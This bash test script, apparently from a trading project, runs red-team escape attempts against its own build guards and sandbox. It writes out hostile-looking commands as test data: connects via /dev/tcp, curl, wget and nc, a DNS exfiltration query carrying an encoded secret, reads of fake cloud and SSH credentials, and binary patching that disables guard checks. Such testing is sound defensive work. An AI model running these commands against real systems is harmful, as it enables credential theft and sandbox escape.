#!/usr/bin/env bash
# redteam.sh CASE — scripted escape attempts against the build-time layers (compile, link,
# post-link scan), the prod-flavor constructor (dlopen), tt-sandbox and tt-gate
# (DESIGN §6). ctest runs each case as its own test; CMake reads the case names from the
# "NAME) # layer: L" lines below, so a case is added by adding its branch.
#
# Each case first does the same thing without the forbidden piece where that makes sense
# (the control: the test can fail), then the attempt, and asserts the refusal plus the
# `denied` event where the layer emits one. Exit 0 refused, 1 escaped or broken, 77 skipped
# (not root, tool missing: ctest SKIP, never a pass). The outcome also goes to
# $RT_RESULTS/CASE for the run summary. Network attempts inside tt-sandbox additionally
# run in an outer `unshare -n` (no route), so even a sandbox failure could not send a
# packet; what is asserted is the sandbox's own refusal (its denied event, its errno).
#
# Environment (set by CMake): RT_CC RT_PROBE RT_NET RT_FLAVOR_LIB RT_SHIM_GUARD
# RT_SANDBOX RT_GATE TT_SOURCE_DIR RT_RESULTS.
set -u
case_=${1:?usage: redteam.sh CASE}
SRC=${TT_SOURCE_DIR:?}
FL=$SRC/harness/flavor
CC=${RT_CC:-cc}
T=$(mktemp -d /tmp/tt-redteam.XXXXXX)
WT=$T/wt
mkdir -p "$WT"
layer=$(sed -n "s/^$case_) # layer: \\([^ ]*\\).*/\\1/p" "$0")
bg=""
cleanup() {
	for p in $bg; do kill "$p" 2>/dev/null; wait "$p" 2>/dev/null; done
	for s in "$T"/s*; do
		[ -f "$s/supervisor.pid" ] && "$RT_SANDBOX" stop --session "$s" >/dev/null 2>&1
	done
	rm -rf "$T"
}
trap cleanup EXIT
record() { # record OUTCOME DETAIL
	[ -n "${RT_RESULTS:-}" ] && [ -d "$RT_RESULTS" ] &&
		printf '%s\t%s\t%s\n' "$1" "${layer:-?}" "$2" >"$RT_RESULTS/$case_"
	return 0
}
refused() { echo "REFUSED [$layer] $case_: $*"; record refused "$*"; exit 0; }
escaped() { echo "ESCAPED [$layer] $case_: $*" >&2; record escaped "$*"; exit 1; }
broken() { echo "ERROR [$layer] $case_: $*" >&2; record error "$*"; exit 1; }
skip() { echo "SKIP [$layer] $case_: $*"; record skipped "$*"; exit 77; }
need_root() { [ "$(id -u)" = 0 ] || skip "needs root (network namespaces, bwrap)"; }
need() { for t; do command -v "$t" >/dev/null 2>&1 || skip "$t not installed (scripts/deps.sh)"; done; }
need_sandbox() {
	need_root
	[ -n "${RT_SANDBOX:-}" ] && [ -x "$RT_SANDBOX" ] || skip "tt-sandbox not built"
	cp "$RT_PROBE" "$WT/rt_probe"
}
# Expect the command to fail (non-zero) and print MSG-REGEX (stdout+stderr in $T/out).
expect_fail() {
	local re=$1
	shift
	if "$@" >"$T/out" 2>&1; then
		cat "$T/out" >&2
		escaped "succeeded: $*"
	fi
	grep -qE "$re" "$T/out" || { cat "$T/out" >&2; broken "refused without /$re/"; }
}
n_sb=0
# sb [--net] [--policy F] -- CMD... : one tt-sandbox session on $WT; output in $T/out,
# $T/err, exit status in $rc, trace in $T/sN/trace.jsonl ($sess).
sb() {
	local outer=()
	if [ "$1" = --net ]; then
		outer=(unshare -n)
		shift
	fi
	n_sb=$((n_sb + 1))
	sess=$T/s$n_sb
	(cd "$WT" && "${outer[@]}" "$RT_SANDBOX" run --session "$sess" --worktree "$WT" "$@") \
		>"$T/out" 2>"$T/err"
	rc=$?
}
# The sandbox's denied event: what, target (regex), in the command's stderr and the trace.
sb_denied() {
	local what=$1 target=$2
	grep -qE "\"event\":\"denied\",\"what\":\"$what\",\"target\":\"$target\"" "$T/err" ||
		{ cat "$T/out" "$T/err" >&2; broken "no denied $what event for $target on stderr"; }
	grep -qE "\"event\":\"denied\",\"what\":\"$what\",\"target\":\"$target\"" "$sess/trace.jsonl" ||
		broken "denied $what $target not in the trace"
}
# The sandbox refused a DNS query: a denied dns event, or, when the host's resolver is on
# loopback (systemd-resolved's 127.0.0.53), the query went to the sandbox's own loopback
# where nothing listens (traced as a net event) and the lookup failed.
sb_dns_refused() {
	if grep -q '"event":"denied","what":"dns"' "$T/err"; then
		sb_denied dns "[^\"]*:53"
	elif grep -qE '"event":"net","what":"[a-z]+","target":"(127\.[0-9.]+|\[::1\]):53"' "$sess/trace.jsonl"; then
		[ $rc != 0 ] || escaped "lookup succeeded through the loopback resolver"
	else
		cat "$T/out" "$T/err" >&2
		broken "no denied dns event and no loopback resolver attempt"
	fi
}
# secret_reads TARGET [--policy F] CMD PATH: a fake home holding real-looking secrets; CMD
# PATH once, then twice, each in its own session: the read fails, the real content (and the
# decoy's) never shows, and the trace holds exactly one, then two, denied file events for
# TARGET (rule secret-read): every attempt is logged, none merged.
secret_reads() {
	local target=$1 pol=() n
	shift
	if [ "$1" = --policy ]; then pol=(--policy "$2"); shift 2; fi
	mkdir -p "$T/home/.aws" "$T/home/.ssh"
	printf '[default]\naws_access_key_id = REAL-LOOKING-AKID\n' >"$T/home/.aws/credentials"
	echo 'REAL-LOOKING-SSH-KEY' >"$T/home/.ssh/id_ed25519"
	export HOME=$T/home
	echo plain >"$WT/plain.txt"
	sb "${pol[@]}" -- sh -c "cat plain.txt"
	[ $rc = 0 ] && grep -q plain "$T/out" || broken "control: a plain read failed"
	grep -q '"rule":"secret-read"' "$sess/trace.jsonl" && broken "control: a plain read was logged"
	for k in 1 2; do
		sb "${pol[@]}" -- sh -c "for i in \$(seq $k); do $1 $2; done; exit 0"
		grep -qE 'REAL-LOOKING|aws_access_key_id|PRIVATE KEY' "$T/out" &&
			escaped "secret content readable: $(head -c 200 "$T/out")"
		grep -q 'Operation not permitted' "$T/err" || broken "read not refused: $(cat "$T/err")"
		n=$(grep -c "\"event\":\"denied\",\"what\":\"file\",\"target\":\"$target\",\"rule\":\"secret-read\"" "$sess/trace.jsonl")
		[ "$n" = $k ] || { cat "$sess/trace.jsonl" >&2; escaped "$k attempt(s), $n denied event(s) for $target"; }
		n=$(grep -c "\"event\":\"denied\",\"what\":\"file\",\"target\":\"$target\",\"rule\":\"secret-read\"" "$T/err")
		[ "$n" = $k ] || broken "$k attempt(s), $n denied event(s) on the command's stderr"
	done
	refused "$1 $target: refused (EPERM), one denied file event per attempt (1 -> 1, 2 -> 2)"
}
CFLAGS="-std=gnu11 -DTT_FLAVOR_TESTNET=1 -include $FL/tt_poison_testnet.h -I$FL"
LDFLAGS="-Wl,--undefined=tt_flavor_marker $FL/flavor_testnet.ld"
# a prod-flavor shared library, as someone would build it from the prod sources
build_prod_so() {
	$CC -shared -fPIC -std=gnu11 -DTT_FLAVOR_PROD=1 -I"$FL" -I"$SRC/harness/prod" \
		"$SRC/harness/prod/flavor_prod.c" "$SRC/harness/prod/endpoints_prod.c" \
		-o "$T/libttprod.so" || broken "cannot build the prod .so"
}
gate_repo() { # a repo with the project's policy and paths; base commit
	cd "$WT" || broken cd
	git init -q -b main . && git config user.email rt@example.invalid && git config user.name rt
	mkdir -p harness/policy harness/flavor .ci cmake
	cp "$SRC/harness/policy/gate.ini" harness/policy/gate.ini
	cp "$FL/flavor_testnet.ld" harness/flavor/
	cp "$SRC/cmake/TtFlavor.cmake" cmake/
	echo 'echo build' >build.sh
	echo 'steps: [build]' >.ci/pipeline.yml
	git add -A && git commit -qm base || broken "gate repo"
}
gate_check() { # gate_check: runs tt-gate on main~1..main; verdict in $rc
	[ -n "${RT_GATE:-}" ] && [ -x "$RT_GATE" ] || skip "tt-gate not built"
	(cd "$WT" && "$RT_GATE" check --policy "$WT/harness/policy/gate.ini" main~1..main) \
		>"$T/out" 2>"$T/err"
	rc=$?
}

case $case_ in
# ---- compile time -------------------------------------------------------------------
compile_poisoned_prod_identifier) # layer: compile:poison
	printf 'int tt_testnet_thing(void);\nint tt_testnet_thing(void) { return 1; }\n' >"$T/ok.c"
	$CC $CFLAGS -c "$T/ok.c" -o "$T/ok.o" || broken "control compile failed"
	printf 'extern const char *tt_prod_config_path(void);\nconst char *p(void) { return tt_prod_config_path(); }\n' >"$T/bad.c"
	expect_fail "poisoned .*tt_prod_config_path" $CC $CFLAGS -c "$T/bad.c" -o "$T/bad.o"
	refused "attempt to use poisoned tt_prod_config_path"
	;;
compile_token_pasted_prod_identifier) # layer: compile:poison
	# the name is assembled by the preprocessor, never written whole
	cat >"$T/bad.c" <<'C'
#define CAT(a, b) a##b
extern const char CAT(tt_flavor_, prod_marker)[];
const char *p(void) { return CAT(tt_flavor_, prod_marker); }
C
	expect_fail "poisoned .*tt_flavor_prod_marker" $CC $CFLAGS -c "$T/bad.c" -o "$T/bad.o"
	refused "token-pasted name is poisoned too"
	;;
compile_prod_header_include) # layer: compile:#error
	expect_fail "ticktrade: prod-only header tt_prod.h included outside the prod flavor" \
		$CC $CFLAGS -I"$SRC/harness/prod" -x c -c - -o "$T/h.o" <<<'#include "tt_prod.h"'
	refused "#error in tt_prod.h"
	;;
compile_prod_source_in_testnet) # layer: compile:#error
	for f in endpoints_prod.c flavor_prod.c; do
		expect_fail "ticktrade: prod-only source compiled outside the prod flavor" \
			$CC $CFLAGS -I"$SRC/harness/prod" -c "$SRC/harness/prod/$f" -o "$T/p.o"
	done
	expect_fail "prod-only" $CC $CFLAGS -I"$SRC/engine/core/net/src" \
		-I"$SRC/engine/core/include" -c "$SRC/engine/core/net/src/guard_prod_hosts.c" -o "$T/g.o"
	refused "#error in endpoints_prod.c, flavor_prod.c, guard_prod_hosts.c"
	;;
# ---- link time ----------------------------------------------------------------------
link_asm_alias_of_prod_marker) # layer: link:ASSERT
	# an asm label names the symbol in a string: the poison never sees the identifier
	cat >"$T/alias.c" <<'C'
#include <stdio.h>
extern const char marker[] __asm__("tt_flavor_" "prod_marker");
int main(void) { puts(marker); return 0; }
C
	$CC $CFLAGS -c "$T/alias.c" -o "$T/alias.o" || broken "alias did not compile (expected: it does)"
	build_prod_so
	expect_fail "ticktrade: testnet binary links the prod flavor" \
		$CC "$T/alias.o" "$RT_FLAVOR_LIB" -L"$T" -lttprod $LDFLAGS -o "$T/alias"
	expect_fail "undefined reference to .tt_flavor_prod_marker" \
		$CC "$T/alias.o" "$RT_FLAVOR_LIB" $LDFLAGS -o "$T/alias"
	refused "compiles, but the link ASSERT refuses it (and without the prod .so: undefined)"
	;;
link_prod_static_flavor_library) # layer: link:duplicate+ASSERT
	printf '#include <stdio.h>\nconst char *tt_flavor_name(void);\nint main(void) { puts(tt_flavor_name()); return 0; }\n' >"$T/main.c"
	$CC -std=gnu11 "$T/main.c" "$RT_FLAVOR_LIB" $LDFLAGS -o "$T/ok" || broken "control link"
	[ "$("$T/ok")" = testnet ] || broken "control binary is not testnet"
	$CC -std=gnu11 -DTT_FLAVOR_PROD=1 -I"$FL" -c "$SRC/harness/prod/flavor_prod.c" -o "$T/prod.o" || broken "prod.o"
	ar rcs "$T/libttflavor_prod.a" "$T/prod.o"
	expect_fail "multiple definition of .tt_flavor_marker|ticktrade: testnet binary links the prod flavor" \
		$CC -std=gnu11 "$T/main.c" -Wl,--whole-archive "$RT_FLAVOR_LIB" "$T/libttflavor_prod.a" \
		-Wl,--no-whole-archive $LDFLAGS -o "$T/both"
	refused "duplicate tt_flavor_marker / ASSERT"
	;;
link_prod_shared_library) # layer: link:ASSERT
	printf 'int main(void) { return 0; }\n' >"$T/main.c"
	build_prod_so
	$CC -std=gnu11 "$T/main.c" "$RT_FLAVOR_LIB" $LDFLAGS -o "$T/ok" || broken "control link"
	expect_fail "ticktrade: testnet binary links the prod flavor" \
		$CC -std=gnu11 "$T/main.c" "$RT_FLAVOR_LIB" -L"$T" -Wl,--no-as-needed -lttprod $LDFLAGS -o "$T/so"
	refused "ASSERT(!DEFINED(tt_flavor_prod_marker)) with the prod .so on the link line"
	;;
link_without_the_linker_script) # layer: scan+run:prod-ctor
	# the attacker drops flavor_testnet.ld from the link line (a TtFlavor.cmake edit: the
	# gate blocks that too): the link succeeds, so the post-link scan and, if the binary is
	# run anyway, the prod library's constructor must stop it
	printf '#include <stdio.h>\nint main(void) { puts("testnet binary ran with the prod library"); return 0; }\n' >"$T/main.c"
	build_prod_so
	$CC -std=gnu11 "$T/main.c" "$RT_FLAVOR_LIB" $LDFLAGS -o "$T/ok" || broken "control link"
	"$FL/scan-binary.sh" "$T/ok" || broken "control: clean binary rejected by the scan"
	$CC -std=gnu11 "$T/main.c" -Wl,--whole-archive "$RT_FLAVOR_LIB" -Wl,--no-whole-archive \
		-L"$T" -Wl,--no-as-needed -lttprod -Wl,-rpath,"$T" -o "$T/nold" ||
		broken "link without the script failed (expected to succeed)"
	expect_fail "needs prod library .*libttprod.so" "$FL/scan-binary.sh" --symbols-only "$T/nold"
	"$T/nold" >"$T/run" 2>&1
	r=$?
	grep -q "ran with the prod library" "$T/run" && escaped "main() ran with the prod library mapped"
	[ $r = 126 ] || { cat "$T/run" >&2; broken "exit $r, expected 126 from the prod constructor"; }
	grep -q '"event":"denied","what":"exec".*"rule":"prod_flavor_in_testnet_process"' "$T/run" ||
		{ cat "$T/run" >&2; broken "no denied event from the prod constructor"; }
	refused "scan refuses the binary; run anyway, the prod constructor ends it (126, denied)"
	;;
# ---- post-link scan / patching ------------------------------------------------------
scan_patched_prod_hostname) # layer: scan
	cat >"$T/victim.c" <<'C'
#include <stdio.h>
const char *tt_flavor_name(void);
static const char placeholder[] = "PLACEHOLDER-HOSTNAME-0123456789";
int main(void) { puts(placeholder); puts(tt_flavor_name()); return 0; }
C
	$CC -std=gnu11 "$T/victim.c" "$RT_FLAVOR_LIB" $LDFLAGS -o "$T/victim" || broken "victim link"
	"$FL/scan-binary.sh" "$T/victim" || broken "clean binary rejected"
	python3 - "$T/victim" <<'PY' || broken "patch"
import sys
p = sys.argv[1]; b = open(p, 'rb').read()
old = b"PLACEHOLDER-HOSTNAME-0123456789"
new = (b"ws-api." + b"binance.com").ljust(len(old), b"\0")
assert b.count(old) == 1
open(p, 'wb').write(b.replace(old, new))
PY
	expect_fail "production hostname 'ws-api.binance.com'" "$FL/scan-binary.sh" "$T/victim"
	refused "scan-binary.sh flags the patched-in host name"
	;;
patched_guard_binary_in_sandbox) # layer: sandbox:netns
	need_sandbox
	[ "$(uname -m)" = x86_64 ] || skip "the patch is x86-64 code"
	# patch the guard out of a copy of rt_net (both checks return 0), then connect to a
	# documentation address from inside tt-sandbox: the guard no longer says no, the
	# sandbox's network namespace must
	cp "$RT_NET" "$WT/rt_net_patched"
	python3 - "$WT/rt_net_patched" <<'PY' || broken "patch"
import subprocess, sys
p = sys.argv[1]
syms = {}
for l in subprocess.run(["nm", p], capture_output=True, text=True).stdout.splitlines():
    f = l.split()
    if len(f) == 3 and f[2] in ("tt_guard_check_endpoint", "tt_guard_check_resolved"):
        syms[f[2]] = int(f[0], 16)
assert len(syms) == 2, syms
loads = []
for l in subprocess.run(["readelf", "-lW", p], capture_output=True, text=True).stdout.splitlines():
    f = l.split()
    if f and f[0] == "LOAD":
        loads.append((int(f[1], 16), int(f[2], 16), int(f[4], 16)))
b = bytearray(open(p, "rb").read())
for name, va in syms.items():
    off = next(o + va - v for o, v, sz in loads if v <= va < v + sz)
    b[off:off + 3] = b"\x31\xc0\xc3"  # xor eax,eax; ret
open(p, "wb").write(bytes(b))
PY
	cp "$RT_NET" "$WT/rt_net"
	sb --net -- ./rt_net --attempt-ws 192.0.2.1 443
	grep -q '"rule":"ip_literal_not_allowlisted"' "$T/err" || broken "control: unpatched guard did not refuse"
	sb --net -- ./rt_net_patched --attempt-ws 192.0.2.1 443
	grep -q '"rule":"ip_literal_not_allowlisted"' "$T/err" && broken "patch did not remove the guard"
	[ $rc = 0 ] && escaped "patched binary connected: $(cat "$T/out")"
	grep -q "down reason -101 " "$T/out" || { cat "$T/out" "$T/err" >&2; broken "expected ENETUNREACH"; }
	grep -q '"event":"denied","what":"connect","target":"192.0.2.1:443","rule":"no-route-out"' "$sess/trace.jsonl" ||
		{ cat "$sess/trace.jsonl" >&2; escaped "the io_uring connect is not in the trace"; }
	refused "guard patched out; io_uring connect gets ENETUNREACH in the sandbox netns, traced by the trap device"
	;;
# ---- dlopen of the prod library -----------------------------------------------------
dlopen_prod_library) # layer: run:prod-ctor
	build_prod_so
	cat >"$T/host.c" <<'C'
#include <dlfcn.h>
#include <stdio.h>
int main(int argc, char **argv)
{
	void *h = dlopen(argv[1], RTLD_NOW | RTLD_LOCAL);
	const char *(*name)(void);

	if (!h) {
		printf("dlopen: %s\n", dlerror());
		return 1;
	}
	name = (const char *(*)(void))dlsym(h, "tt_flavor_name");
	printf("LOADED, flavor %s\n", name ? name() : "?");
	return 0;
}
C
	# control: a prod-flavor program may load it
	$CC -std=gnu11 -DTT_FLAVOR_PROD=1 -I"$FL" "$T/host.c" "$SRC/harness/prod/flavor_prod.c" \
		-Wl,--undefined=tt_flavor_marker -ldl -o "$T/prodhost" || broken "prod host"
	"$T/prodhost" "$T/libttprod.so" >"$T/run" 2>&1 || { cat "$T/run" >&2; broken "control: prod program could not load it"; }
	# the attempt: a testnet program (linker script and all) dlopens it at run time
	$CC $CFLAGS "$T/host.c" "$RT_FLAVOR_LIB" $LDFLAGS -ldl -o "$T/tnhost" || broken "testnet host"
	"$FL/scan-binary.sh" "$T/tnhost" || broken "testnet host fails the scan"
	"$T/tnhost" "$T/libttprod.so" >"$T/run" 2>&1
	r=$?
	grep -q LOADED "$T/run" && escaped "testnet program loaded and called the prod library"
	[ $r = 126 ] || { cat "$T/run" >&2; broken "exit $r, expected 126"; }
	grep -q '"event":"denied","what":"exec".*"rule":"prod_flavor_in_testnet_process".*"flavor":"prod"' "$T/run" ||
		{ cat "$T/run" >&2; broken "no denied event"; }
	refused "prod constructor finds the testnet marker in the main program: denied, exit 126 before dlopen returns"
	;;
preload_prod_library) # layer: run:prod-ctor
	build_prod_so
	printf '#include <stdio.h>\nint main(void) { puts("main ran"); return 0; }\n' >"$T/m.c"
	$CC $CFLAGS "$T/m.c" "$RT_FLAVOR_LIB" $LDFLAGS -o "$T/m" || broken "testnet program"
	"$T/m" | grep -q "main ran" || broken "control"
	LD_PRELOAD=$T/libttprod.so "$T/m" >"$T/run" 2>&1
	r=$?
	grep -q "main ran" "$T/run" && escaped "main ran with the prod library preloaded"
	[ $r = 126 ] && grep -q '"rule":"prod_flavor_in_testnet_process"' "$T/run" ||
		{ cat "$T/run" >&2; broken "exit $r"; }
	refused "LD_PRELOAD of the prod library: denied, exit 126"
	;;
preload_shim_symbol_table) # layer: link:hidden
	# the guard must not be reachable by symbol interposition: not in .dynsym of the
	# program, and a shim defining it (rt_shim_guard) leaves the refusal in place
	nm -D "$RT_NET" | grep -qE ' (tt_guard_check_endpoint|tt_net_resolve|tt_guard_check_resolved)$' &&
		escaped "guard entry points exported in .dynsym"
	LD_PRELOAD=$RT_SHIM_GUARD RT_RESULTS= "$RT_NET" preload_shim_replacing_the_guard_has_no_effect >"$T/out" 2>&1
	r=$?
	[ $r = 77 ] && skip "netns not available"
	[ $r = 0 ] || { cat "$T/out" >&2; escaped "refusal lost under the shim"; }
	refused "not in .dynsym; shim defining tt_guard_check_* has no effect"
	;;
guard_decides_without_libc_calls) # layer: build:guard-objects
	# a shim can only reach the guard through the libc calls it makes: the decision path
	# (guard.c, resolve.c) may import only these
	objs=$(find "${TT_BUILD_DIR:?}/engine/core/net" -name 'guard.c.o' -o -name 'resolve.c.o')
	[ "$(echo "$objs" | wc -w)" = 2 ] || broken "guard objects not found: $objs"
	bad=$(nm -u $objs | awk 'NF==2{print $2}' | grep -vE '^(tt_[A-Za-z0-9_]*|inet_ntop|inet_pton|snprintf|__snprintf_chk|getaddrinfo|freeaddrinfo|gai_strerror|__assert_fail|__stack_chk_fail)$' | sort -u)
	[ -n "$bad" ] && escaped "the guard imports interposable calls: $bad"
	refused "guard.c/resolve.c import no string or memory functions"
	;;
# ---- tt-sandbox: network ------------------------------------------------------------
sandbox_raw_syscall_connect) # layer: sandbox:seccomp+netns
	need_sandbox
	sb --net -- ./rt_probe syscall-connect 192.0.2.1 443
	[ $rc = 0 ] && escaped "raw connect worked"
	grep -qE "Network is unreachable|Operation not permitted" "$T/out" || broken "$(cat "$T/out")"
	sb_denied connect "192.0.2.1:443"
	refused "syscall(SYS_connect): $(head -n1 "$T/out")"
	;;
sandbox_raw_syscall_connect_ipv6) # layer: sandbox:seccomp+netns
	need_sandbox
	sb --net -- ./rt_probe syscall-connect 2001:db8::7 443
	[ $rc = 0 ] && escaped "raw connect worked"
	sb_denied connect "\\[?2001:db8::7\\]?:443"
	refused "$(head -n1 "$T/out")"
	;;
sandbox_io_uring_connect) # layer: sandbox:netns+trap
	need_sandbox
	# IORING_OP_CONNECT: no connect(2) for seccomp to see. Outcome and trace asserted.
	for k in 1 2; do # non-loopback (documentation addresses): k attempts -> k events
		sb --net -- sh -c "for i in \$(seq $k); do ./rt_probe uring-connect 192.0.2.1 80; ./rt_probe uring-connect 2001:db8::1 443; done; exit 0"
		grep -q WORKED "$T/out" && escaped "io_uring connect worked: $(cat "$T/out")"
		[ "$(grep -c 'IORING_OP_CONNECT: refused: Network is unreachable' "$T/out")" = $((2 * k)) ] ||
			broken "expected ENETUNREACH: $(cat "$T/out")"
		for tgt in '192.0.2.1:80' '\[2001:db8::1\]:443'; do
			n=$(grep -cE "\"event\":\"denied\",\"what\":\"connect\",\"target\":\"$tgt\",\"rule\":\"no-route-out\",.*\"via\":\"packet\",\"process\":\"rt_probe\",\"pid\":[1-9]" "$sess/trace.jsonl")
			[ "$n" = $k ] || { cat "$sess/trace.jsonl" >&2; escaped "$k io_uring connect(s) to $tgt, $n traced"; }
			n=$(grep -cE "\"event\":\"denied\",\"what\":\"connect\",\"target\":\"$tgt\",\"rule\":\"no-route-out\"" "$T/err")
			[ "$n" = $k ] || broken "$k io_uring connect(s) to $tgt, $n denied events on stderr"
		done
		# seccomp never saw them: the packet events are the only ones for the target
		[ "$(grep -c '192.0.2.1:80' "$sess/trace.jsonl")" = $k ] || broken "unexpected extra events"
	done
	# loopback: nothing listens on the sandbox's own 127.0.0.1:4999
	sb --net -- ./rt_probe uring-connect 127.0.0.1 4999
	[ $rc = 0 ] && escaped "loopback io_uring connect worked?"
	grep -q 'Connection refused' "$T/out" || broken "expected ECONNREFUSED: $(cat "$T/out")"
	grep -q '"event":"net","what":"packet","target":"127.0.0.1:4999","src":"127.0.0.1:[0-9]*","proto":"tcp"' \
		"$sess/trace.jsonl" || { cat "$sess/trace.jsonl" >&2; escaped "loopback io_uring connect not traced"; }
	grep -q '"what":"connect","target":"127.0.0.1:4999"' "$sess/trace.jsonl" && broken "seccomp saw it?"
	# control: the same connect by syscall is seccomp's (loopback-only rule), not the trap's
	sb --net -- ./rt_probe syscall-connect 192.0.2.1 80
	sb_denied connect "192.0.2.1:80"
	grep -q '"rule":"no-route-out"' "$sess/trace.jsonl" && broken "control: a syscall connect reached the trap"
	refused "IORING_OP_CONNECT to 192.0.2.1:80, [2001:db8::1]:443: ENETUNREACH, one denied event per attempt (trap device); to 127.0.0.1:4999: ECONNREFUSED, net packet event"
	;;
sandbox_raw_sendto_dns) # layer: sandbox:seccomp+netns
	need_sandbox
	sb --net -- ./rt_probe syscall-sendto 198.51.100.53 53
	[ $rc = 0 ] && escaped "DNS datagram sent"
	sb_denied dns "198.51.100.53:53"
	refused "$(head -n1 "$T/out")"
	;;
sandbox_bash_dev_tcp) # layer: sandbox:seccomp+netns
	need_sandbox
	sb --net -- bash -c 'exec 3<>/dev/tcp/198.51.100.7/443 && echo CONNECTED'
	grep -q CONNECTED "$T/out" && escaped "/dev/tcp connected"
	sb_denied connect "198.51.100.7:443"
	refused "bash /dev/tcp: connect denied"
	;;
sandbox_curl) # layer: sandbox:seccomp+netns
	need_sandbox
	need curl
	sb --net -- curl -sS -m 5 -o /dev/null https://192.0.2.10/api/v3/ping
	[ $rc = 0 ] && escaped "curl to 192.0.2.10 worked"
	sb_denied connect "192.0.2.10:443"
	sb --net -- curl -sS -m 5 -o /dev/null https://api.binance.com/api/v3/ping
	[ $rc = 0 ] && escaped "curl to a prod host worked"
	sb_dns_refused
	refused "curl: connect and DNS denied"
	;;
sandbox_wget) # layer: sandbox:seccomp+netns
	need_sandbox
	need wget
	sb --net -- wget -q -T 3 -t 1 -O /dev/null http://198.51.100.9/
	[ $rc = 0 ] && escaped "wget worked"
	sb_denied connect "198.51.100.9:80"
	refused "wget: connect denied"
	;;
sandbox_netcat) # layer: sandbox:seccomp+netns
	need_sandbox
	need nc
	sb --net -- sh -c 'echo x | nc -w 2 192.0.2.20 443 && echo CONNECTED'
	grep -q CONNECTED "$T/out" && escaped "nc connected"
	sb_denied connect "192.0.2.20:443"
	sb --net -- sh -c 'echo x | nc -u -w 1 198.51.100.53 53; echo done'
	sb_denied dns "198.51.100.53:53"
	refused "nc TCP connect and UDP/53 denied"
	;;
sandbox_python_socket) # layer: sandbox:seccomp+netns
	need_sandbox
	[ -x /usr/bin/python3 ] || skip "/usr/bin/python3 missing"
	sb --net -- /usr/bin/python3 -c 'import socket; s=socket.create_connection(("192.0.2.30", 443), 3); print("CONNECTED")'
	grep -q CONNECTED "$T/out" && escaped "python connected"
	sb_denied connect "192.0.2.30:443"
	refused "python socket: connect denied"
	;;
sandbox_node_socket) # layer: sandbox:seccomp+netns
	need_sandbox
	need node
	sb --net -- node -e 'const s=require("net").connect(443,"198.51.100.40",()=>{console.log("CONNECTED");process.exit(0)});s.on("error",e=>{console.log(e.code);process.exit(1)})'
	grep -q CONNECTED "$T/out" && escaped "node connected"
	sb_denied connect "198.51.100.40:443"
	refused "node net.connect: $(head -n1 "$T/out")"
	;;
sandbox_dns_exfil_under_allowed_suffix) # layer: sandbox:seccomp+netns
	# the guard allows *.testnet.binance.vision (the venue's own zone); a secret encoded
	# in a label there would leave as a DNS query: the sandbox must stop the query
	need_sandbox
	sb --net -- getent hosts 6170695f6b65793d534543524554.testnet.binance.vision
	[ $rc = 0 ] && escaped "name resolved"
	sb_dns_refused
	refused "DNS query denied (what=dns)"
	;;
sandbox_abstract_unix_socket) # layer: sandbox:netns
	need_sandbox
	name=tt-redteam-$$
	"$RT_PROBE" listen-abstract "$name" >"$T/listener" 2>&1 &
	bg=$!
	for i in $(seq 50); do grep -q listening "$T/listener" && break; sleep 0.05; done
	sb -- ./rt_probe abstract "$name" escaped-from-sandbox
	[ $rc = 0 ] && escaped "connected to the host's @$name"
	"$RT_PROBE" abstract "$name" control-from-host >/dev/null || broken "control: host connect failed"
	wait $bg
	bg=""
	grep -q "first client: control-from-host" "$T/listener" || broken "listener: $(cat "$T/listener")"
	refused "@$name unreachable inside (own net namespace), host control connected"
	;;
sandbox_host_loopback_service) # layer: sandbox:netns
	# a service on the host's loopback (a proxy would do) is another way out
	need_sandbox
	[ -x /usr/bin/python3 ] || skip "/usr/bin/python3 missing"
	/usr/bin/python3 -c '
import socket, sys
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(4); l.settimeout(5)
print(l.getsockname()[1], flush=True)
c, _ = l.accept(); print("first client:", c.recv(64).decode().strip(), flush=True)
' >"$T/listener" 2>&1 &
	bg=$!
	for i in $(seq 100); do [ -s "$T/listener" ] && break; sleep 0.05; done
	port=$(head -n1 "$T/listener")
	[ -n "$port" ] || broken "listener did not start"
	sb -- ./rt_probe syscall-connect 127.0.0.1 "$port"
	[ $rc = 0 ] && escaped "reached the host's 127.0.0.1:$port"
	grep -q "Connection refused" "$T/out" || broken "$(cat "$T/out" "$T/err")"
	/usr/bin/python3 -c "import socket; socket.create_connection(('127.0.0.1', $port), 3).send(b'control\n')" ||
		broken "control: host connect failed"
	wait $bg
	bg=""
	grep -q "first client: control" "$T/listener" || broken "listener: $(cat "$T/listener")"
	refused "host 127.0.0.1:$port unreachable inside (own loopback), host control connected"
	;;
# ---- tt-sandbox: files, credentials, processes --------------------------------------
sandbox_setuid_binary) # layer: sandbox:seccomp+no_new_privs
	need_sandbox
	[ -u /bin/mount ] || skip "/bin/mount is not setuid here"
	mkdir -p "$WT/mnt"
	sb -- sh -c '/bin/mount -t tmpfs none ./mnt && echo MOUNTED; grep -E "^(CapEff|NoNewPrivs):" /proc/self/status'
	grep -q MOUNTED "$T/out" && escaped "setuid mount worked inside"
	grep -q 'NoNewPrivs:.*1' "$T/out" || broken "no_new_privs not set: $(cat "$T/out")"
	sb_denied exec "syscall:mount"
	refused "setuid /bin/mount: no privileges gained, mount(2) denied by seccomp"
	;;
sandbox_write_outside_work_tree) # layer: sandbox:mounts
	need_sandbox
	mkdir -p "$T/outside"
	sb -- ./rt_probe write "$WT/inside.txt"
	[ -f "$WT/inside.txt" ] || broken "control: write inside the work tree failed"
	for p in /etc/tt-redteam-$$ /usr/tt-redteam-$$ "$T/outside/x" "$SRC/tt-redteam-$$"; do
		sb -- ./rt_probe write "$p"
		if [ -e "$p" ]; then
			rm -f "$p"
			escaped "wrote $p on the host"
		fi
	done
	refused "/etc, /usr, the source tree and siblings: not writable or not the host's"
	;;
sandbox_read_prod_credentials_by_path) # layer: sandbox:mounts
	need_sandbox
	# outside /tmp (private inside the sandbox), so that only the mask can hide it
	P=${TT_BUILD_DIR:?}/tests/redteam/prod-creds.$$
	trap 'rm -rf "$P"; cleanup' EXIT
	mkdir -p "$P/prod"
	printf '[credential]\nenv = prod\nkey_id = SYNTHETIC\n' >"$P/prod/binance.ini"
	printf '[secrets]\npath = %s\n' "$P/prod" >"$T/pol.ini"
	sb -- ./rt_probe read "$P/prod/binance.ini"
	[ $rc = 0 ] || broken "control: without the policy the file is readable? rc=$rc $(cat "$T/out")"
	sb --policy "$T/pol.ini" -- ./rt_probe read "$P/prod/binance.ini"
	[ $rc = 0 ] && escaped "prod credential readable inside"
	ln -s "$P/prod/binance.ini" "$WT/cred-link.ini"
	sb --policy "$T/pol.ini" -- ./rt_probe read "$WT/cred-link.ini"
